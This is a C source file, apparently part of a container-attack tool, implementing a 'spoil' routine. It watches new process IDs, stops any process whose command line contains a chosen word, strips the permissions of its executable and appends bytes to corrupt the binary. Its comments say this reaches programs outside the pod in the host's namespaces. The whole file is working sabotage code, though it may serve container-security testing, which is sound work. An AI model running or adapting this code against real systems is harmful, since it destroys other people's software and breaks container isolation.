/* spoil WORD: makes the program useless of each process that appears in the pod and has WORD in its
   command line. In the host's namespaces, WORD keeps it from processes outside of the pod. */
#define _GNU_SOURCE
#include "hostile.h"

#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

/* How many processes may have begun since the last known one. */
enum { AHEAD = 3 };

static int is_called(int pid, const char *word) {
  char path[64], line[512];
  snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
  int file = open(path, O_RDONLY);
  if (file < 0) return 0;
  ssize_t size = read(file, line, sizeof line);
  close(file);
  return size > 0 && memmem(line, size, word, strlen(word)) != NULL;
}

/* Tells whether a program is the app's own: these are no target, and the attacker needs them. */
static int is_own(const struct stat *file) {
  struct stat own;
  static const char *const OWN[] = {"/hostile", "/bin/busybox"};
  for (unsigned i = 0; i < 2; i++)
    if (stat(OWN[i], &own) == 0 && own.st_dev == file->st_dev && own.st_ino == file->st_ino)
      return 1;
  return 0;
}

/* Takes away the program's mode at once, and changes its bytes when nobody executes it any more. */
static int spoil(int pid) {
  struct stat file;
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  if (fstat(fd, &file) != 0 || is_own(&file)) {
    close(fd);
    return 0;
  }
  fchmod(fd, 0);
  kill(pid, SIGCONT);
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  for (int k = 0; k < 2000; k++) {
    int writable = open(path, O_WRONLY | O_APPEND);
    if (writable < 0) continue;
    if (write(writable, "spoilt", 6) != 6) perror("write");
    close(writable);
    break;
  }
  close(fd);
  return 1;
}

static void spin(long nanoseconds) {
  struct timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  do clock_gettime(CLOCK_MONOTONIC, &now);
  while ((now.tv_sec - start.tv_sec) * 1000000000 + now.tv_nsec - start.tv_nsec < nanoseconds);
}

/* Stops the process again and again, so that each program that it executes is looked at. */
static void step_through(int pid, const char *word) {
  for (long step = 0; is_called(pid, word); step++) {
    kill(pid, SIGSTOP);
    int spoilt = spoil(pid);
    kill(pid, SIGCONT);
    if (spoilt) return;
    spin(20000 + step % 8 * 5000);
  }
}

int spoil_programs(int argc, char **argv) {
  if (argc != 2) return 2;
  spoil(1);
  puts("up");
  for (;;) {
    int last = last_pid();
    for (int k = 0; k < 20000; k++)
      for (int i = 1; i <= AHEAD; i++) step_through(last + i, argv[1]);
  }
}
